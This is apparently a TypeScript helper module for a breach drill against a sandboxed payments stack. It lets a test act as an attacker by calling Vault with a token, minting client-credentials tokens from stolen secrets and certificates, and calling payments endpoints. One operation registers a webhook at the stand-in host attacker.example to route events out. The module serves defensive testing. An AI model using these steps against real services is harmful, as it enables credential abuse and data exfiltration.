// The attacker's tools: plain HTTP to Vault, the token endpoint and the payments API with
// whatever credentials are in hand. No service code is involved.
import { randomBytes } from 'node:crypto';
import type { ProviderScope } from '@lpi/access-matrix';
import { httpsCall, tokenEndpointAuth, type HttpsResult } from '@lpi/testing';
import type { Stack } from '../demo/stack';

export type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any
export interface CertPair {
  cert?: string;
  key?: string;
}

export interface ApiOp {
  name: string;
  method: string;
  path: string;
  scope: ProviderScope;
  body?: (paymentId: string) => unknown;
}

export const API_OPS: readonly ApiOp[] = [
  {
    name: 'create payment',
    method: 'POST',
    path: '/v1/payments',
    scope: 'payments:write',
    body: () => ({ amount: 1, currency: 'EUR', description: 'breach drill' }),
  },
  { name: 'list payments', method: 'GET', path: '/v1/payments', scope: 'payments:read' },
  {
    name: 'create refund',
    method: 'POST',
    path: '/v1/refunds',
    scope: 'refunds:write',
    body: (p) => ({ payment: p, amount: 1 }),
  },
  { name: 'list refunds', method: 'GET', path: '/v1/refunds', scope: 'refunds:read' },
  {
    name: 'list transactions',
    method: 'GET',
    path: '/v1/transactions',
    scope: 'transactions:read',
  },
  {
    name: 'create webhook endpoint',
    method: 'POST',
    path: '/v1/webhook-endpoints',
    scope: 'webhooks:manage',
    body: () => ({ url: 'https://attacker.example/hook' }),
  },
  {
    name: 'list webhook endpoints',
    method: 'GET',
    path: '/v1/webhook-endpoints',
    scope: 'webhooks:manage',
  },
];

/** One Vault API call with a token; the body of a non-JSON answer is `{}`. */
export async function vaultCall(
  addr: string,
  method: string,
  path: string,
  token: string | undefined,
  body?: unknown,
): Promise<{ status: number; json: Json }> {
  const res = await fetch(`${addr}/v1/${path}`, {
    method,
    headers: {
      ...(token ? { 'x-vault-token': token } : {}),
      ...(body ? { 'content-type': 'application/json' } : {}),
    },
    body: body ? JSON.stringify(body) : undefined,
  });
  const text = await res.text();
  let json: Json = {};
  try {
    json = text ? (JSON.parse(text) as Json) : {};
  } catch {
    json = {};
  }
  return { status: res.status, json };
}

/**
 * A client-credentials request as the holder of `secret` (Basic with its client secret, or
 * an assertion signed with its key), over a TLS session with `cert` (default: the secret's).
 */
export function tokenRequest(
  s: Stack,
  secret: Record<string, string>,
  scope: string,
  cert: CertPair = { cert: secret.client_cert, key: secret.client_key },
): Promise<HttpsResult<Record<string, string>>> {
  return tokenEndpointCall(s, secret, { grant_type: 'client_credentials', scope }, cert);
}

/** Any grant at the token endpoint as the holder of `secret`, over a TLS session with `cert`. */
export function tokenEndpointCall(
  s: Stack,
  secret: Record<string, string>,
  grant: Record<string, string>,
  cert: CertPair,
): Promise<HttpsResult<Record<string, string>>> {
  const auth = tokenEndpointAuth(secret, s.sandbox.issuer);
  return httpsCall<Record<string, string>>(s.sandbox.tokenEndpoint, {
    method: 'POST',
    ca: s.sandbox.caCert,
    ...cert,
    headers: { 'content-type': 'application/x-www-form-urlencoded', ...auth.headers },
    body: new URLSearchParams({ ...grant, ...auth.form }).toString(),
  });
}

/** One payments-API operation with a Bearer token over a TLS session with `cert`. */
export function apiCall(
  s: Stack,
  token: string,
  op: ApiOp,
  cert: CertPair,
  paymentId: string,
): Promise<HttpsResult<Json>> {
  return httpsCall<Json>(`${s.sandbox.apiBaseUrl}${op.path}`, {
    method: op.method,
    ca: s.sandbox.caCert,
    ...cert,
    headers: {
      authorization: `Bearer ${token}`,
      ...(op.body
        ? {
            'content-type': 'application/json',
            'idempotency-key': `drill-${randomBytes(6).toString('hex')}`,
          }
        : {}),
    },
    body: op.body ? JSON.stringify(op.body(paymentId)) : undefined,
  });
}
